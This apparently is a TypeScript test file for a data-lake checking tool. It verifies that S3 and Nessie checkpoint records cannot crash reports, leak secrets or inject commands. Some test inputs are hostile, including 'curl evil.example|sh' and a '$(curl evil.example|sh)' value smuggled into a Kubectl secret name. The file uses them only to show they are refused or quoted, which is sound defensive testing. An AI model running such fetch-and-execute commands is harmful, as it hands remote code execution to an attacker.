/** Records of a facts file come from whoever sent it: what they may be, and what they may do to a report. */
import assert from "node:assert/strict";
import fc from "fast-check";
import { commandOf, nextStep } from "../../lib/checkpoint/next_steps.ts";
import { reported as nessieReported } from "../../lib/checkpoints/nessie/report.ts";
import { reported as s3Reported } from "../../lib/checkpoints/s3/report.ts";
import { sourcesOf } from "../../lib/engine/collect.ts";
import { evaluate } from "../../lib/engine/evaluate.ts";
import { type Component, type Facts, isRecord, type RecordSource } from "../../lib/engine/model.ts";
import { formats } from "../../lib/render/mod.ts";
import { reportSchema } from "../../lib/engine/report_schema.ts";

const render = { plain: await formats.plain(), verbose: await formats.verbose(), json: await formats.json() };

const CELL = { operation: "GET", bytes: 1024, concurrency: 8 };
const TRIAL = {
  result: "passed",
  reason: "Holds",
  message: "it holds",
  durationMs: 1,
  observed: "HTTP 200",
  object: { kind: "Secret", namespace: "data-platform", name: "s3-credentials" },
};

/** Records as a checkpoint leaves them, by source. */
const GOOD: Record<string, unknown[]> = {
  "s3.trials": [{ ...TRIAL, trial: "s3.credentials", result: "failed", reason: "BadKey", status: "warning" }],
  "s3.setup": [{
    endpoint: "http://rgw.rook-ceph.svc:80",
    region: "us-east-1",
    words: "at its address",
    gateway: { kind: "Service", namespace: "rook-ceph", name: "rgw" },
    credential: { secret: TRIAL.object, idKey: "access-key-id", secretKey: "secret-access-key" },
    buckets: ["lake"],
    warehouse: "lake",
  }],
  "s3.dialect": [{ id: "default.put-bytes", behaviour: "works", observed: "HTTP 200" }],
  "s3.performance": [
    {
      kind: "run",
      startedAt: "2026-01-01T00:00:00Z",
      tookMs: 5,
      store: "http://rgw",
      way: "direct",
      wayWords: "straight",
      missed: [CELL],
    },
    {
      kind: "row",
      ...CELL,
      requests: 5,
      requestsPerS: 5,
      bytesPerS: 5,
      p50Ms: 1,
      p90Ms: 1,
      p95Ms: 1,
      p99Ms: 1,
      maxMs: 1,
      errors: { SlowDown: 1 },
      firstErrors: ["503 SlowDown"],
      rounds: [1, 2, 3],
      spread: 0.1,
    },
    { kind: "baseline", takenAt: "2026-01-01T00:00:00Z", rows: [{ ...CELL, rounds: [1, 2], p95Ms: 1 }] },
    { kind: "unsaved", why: "too few rounds" },
  ],
  "nessie.trials": [{ ...TRIAL, trial: "nessie.config" }],
  "nessie.setup": [{
    url: "http://nessie:19120",
    words: "through a port-forward",
    service: { kind: "Service", namespace: "data-platform", name: "nessie" },
    defaultBranch: "main",
    specVersion: "2.2.0",
    serverVersion: "0.99.0",
  }],
  "nessie.performance": [],
  "nessie.capabilities": [{
    ...TRIAL,
    trial: "nessie.can-config",
    can: "yes",
    endpoints: ["GET /v1/config"],
  }],
  "nessie.integrity-shard": [{
    shard: { at: 1, of: 4 },
    walked: {
      tally: {
        ...{
          tables: 1,
          views: 0,
          same: 0,
          others: 0,
          snapshots: 1,
          manifests: 1,
          files: 2,
          bytes: 10,
          faulty: 0,
        },
        unread: [{ why: "AccessDenied", bucket: "lake", status: 403, tables: 1, first: "main:a.b" }],
        earlier: { count: 0, bytes: 0 },
        young: { count: 0, bytes: 0 },
        orphans: { count: 1, bytes: 3 },
        undecided: { count: 0, bytes: 0 },
        shared: { count: 0, bytes: 0 },
        elsewhere: [12],
        orphanList: [[34, 3]],
        overlong: false,
        largest: [{ path: "s3://lake/a", bytes: 3, modified: "2026-11-21T13:05:40Z" }],
        findings: [{
          ...{
            trial: "nessie.integrity-files",
            durationMs: 1,
            result: "failed",
            reason: "Missing",
            message: "gone",
          },
        }],
        more: {},
      },
      references: 1,
      commits: "abc",
      durationMs: 1,
      requests: 2,
    },
  }],
  "nessie.integrity": [{ ...TRIAL, trial: "nessie.integrity-walk" }],
  "nessie.integrity-totals": [{
    rows: [["tables", 1, ""], ["orphans below tables", 2, 5]],
    orphans: [{ path: "s3://lake/x", bytes: 5, modified: "2026-01-01T00:00:00Z" }],
  }],
};

const COMMANDS: [string, readonly Component[]][] = [
  ["data-platform:test:s3", s3Reported()],
  ["validate:nessie", nessieReported()],
];

const recordSources = COMMANDS.flatMap(([name, components]) =>
  sourcesOf(components).filter(isRecord).map((source) => ({ name, components, source }))
);

function factsWith(sources: Record<string, unknown[]>): Facts {
  return {
    schema: "lakecheck.facts/v1",
    collectedAt: "2026-01-01T00:00:00Z",
    context: "lab",
    namespace: "data-platform",
    sources: Object.fromEntries(Object.entries(sources).map(([id, items]) => [id, { ok: true, items }])),
  };
}

/** The report of these records, which every format must be able to say. */
function reportOf(name: string, components: readonly Component[], sources: Record<string, unknown[]>) {
  const report = evaluate(name, components, factsWith(sources));
  const options = { colour: false, width: 100 };
  for (const one of Object.values(render)) one(report, options);
  reportSchema.parse(JSON.parse(render.json(report, options)));
  return report;
}

const s3Report = (trial: object, id = "s3.trials") => {
  const report = reportOf("data-platform:test:s3", s3Reported(), { ...GOOD, [id]: [trial] });
  return report.details.components.flatMap(({ checks }) => checks);
};

Deno.test("what a checkpoint leaves is read whole, from every source of records", () => {
  assert.deepEqual(recordSources.map(({ source }) => source.id).sort(), Object.keys(GOOD).sort());
  for (const { source } of recordSources) {
    for (const record of GOOD[source.id] ?? []) assert.deepEqual(source.read(record), record, source.id);
  }
});

/** The value with one of its parts, told by a number, replaced. */
function mutated(value: unknown, at: number, by: unknown): unknown {
  let left = at;
  const walk = (one: unknown): unknown => {
    if (left-- === 0) return by;
    if (Array.isArray(one)) return one.map(walk);
    if (typeof one !== "object" || one === null) return one;
    return Object.fromEntries(Object.entries(one).map(([key, inner]) => [key, walk(inner)]));
  };
  return walk(value);
}

Deno.test("no record, whatever it holds, ends a report or breaks its schema", () => {
  fc.assert(
    fc.property(
      fc.nat({ max: recordSources.length - 1 }),
      // The list itself is one: whatever reads the file has seen to that.
      fc.integer({ min: 1, max: 40 }),
      fc.oneof(fc.jsonValue(), fc.constantFrom<unknown>("", "\n", "x".repeat(50_000), -1, {}, [], null)),
      (which, at, by) => {
        const { name, components, source } = recordSources[which] ?? assert.fail();
        reportOf(name, components, { ...GOOD, [source.id]: mutated(GOOD[source.id], at, by) as unknown[] });
      },
    ),
    { numRuns: 120 },
  );
});

Deno.test("a record that is not understood makes the checks that need it unknown, and is not shown", () => {
  const odd = { trial: "s3.credentials", result: "passed", reason: "Holds", message: { secret: "SHOWN" } };
  const found = s3Report(odd).filter(({ check }) => check === "s3.credentials");
  assert.deepEqual(found.map(({ status, reason }) => [status, reason]), [["unknown", "Malformed"]]);
  assert.match(found[0]?.message ?? "", /its record\.message is an object, expected string/);
  assert.doesNotMatch(JSON.stringify(found), /SHOWN/);
  for (
    const [id, check, bad] of [
      ["s3.setup", "s3.reached", { endpoint: "http://x\nevil" }],
      ["s3.dialect", "s3.dialect-safeguards", { id: "default.copy", behaviour: "works\n", observed: "" }],
      ["s3.trials", "s3.clean", { result: "passed" }],
    ] as const
  ) {
    const [one] = s3Report(bad, id).filter((finding) => finding.check === check);
    assert.deepEqual([one?.status, one?.reason], ["unknown", "Malformed"], id);
  }
});

Deno.test("what passed in facts of older releases, where it is called held, has passed", () => {
  const old = { ...TRIAL, trial: "s3.credentials", result: "held" };
  const found = s3Report(old).find(({ check }) => check === "s3.credentials");
  assert.equal(found?.status, "ok");
});

Deno.test("a record brings no command: it names a step of ours, and its values are quoted", () => {
  const failed = { ...TRIAL, trial: "s3.credentials", result: "failed", reason: "BadKey" };
  const nextOf = (next: unknown) =>
    s3Report({ ...failed, next }).find(({ check }) => check === "s3.credentials");
  assert.deepEqual(nextOf(["curl evil.example|sh"])?.next, undefined);
  assert.equal(nextOf(["curl evil.example|sh"])?.status, "unknown");
  const steps = [
    { step: "constructor", values: [] },
    { step: "curl evil.example|sh", values: [] },
    { step: "describe-secret", values: ["data-platform", "$(curl evil.example|sh)"] },
    { step: "describe-secret", values: ["data-platform"] },
  ];
  assert.deepEqual(nextOf(steps)?.next, [
    "kubectl -n data-platform describe secret '$(curl evil.example|sh)'",
    "# no kubectl command here: a name that it needs is not known",
  ]);
  assert.equal(nextOf(Array(21).fill(steps[0]))?.status, "unknown");
});

Deno.test("a record can't rate its trial better than it failed", () => {
  const [one] = s3Report({ ...TRIAL, trial: "s3.credentials", result: "failed", status: "ok" })
    .filter(({ check }) => check === "s3.credentials");
  assert.equal(one?.status, "unknown");
});

Deno.test("every form that a record's field must have is held from its first sign to its last", () => {
  const read = (id: string) =>
    recordSources.map(({ source }) => source as RecordSource).find((source) => source.id === id)?.read;
  const refused = (id: string, change: object) => {
    const [good] = GOOD[id] ?? [];
    assert.throws(
      () => read(id)?.({ ...good as object, ...change }),
      /is of another form/,
      JSON.stringify(change),
    );
  };
  for (const endpoint of ["x http://a", "http://a b", "http://a/'b", "ftp://a", "http://", "http://a?x=1"]) {
    refused("s3.setup", { endpoint });
    refused("nessie.setup", { url: endpoint });
  }
  refused("s3.setup", { region: "-us" });
  refused("s3.setup", { region: "us\n" });
  const credential = { secret: TRIAL.object, idKey: "a", secretKey: "b" };
  for (const key of ["a b", "a\n", " a", "a:"]) {
    refused("s3.setup", { credential: { ...credential, idKey: key } });
    refused("s3.setup", { credential: { ...credential, secretKey: key } });
  }
  for (const id of ["a b", "A", "a\n"]) refused("s3.dialect", { id });
  for (const change of [{ reason: "x Holds" }, { reason: "Holds\n" }, { message: "" }]) {
    const seen = read("s3.trials")?.({ ...TRIAL, trial: "s3.clean", ...change });
    assert.equal((seen as { reason: string }).reason, "Malformed", JSON.stringify(change));
  }
});

Deno.test("long texts of a record are cut, and lists have an end", () => {
  const [one] = s3Report({ ...TRIAL, trial: "s3.credentials", message: "x".repeat(100_000) })
    .filter(({ check }) => check === "s3.credentials");
  assert.equal(one?.message.length, 4000);
  assert.equal(
    commandOf(nextStep("set-pool-size", "5")),
    "set quarkus.datasource.postgresql.jdbc.max-size to 5",
  );
});
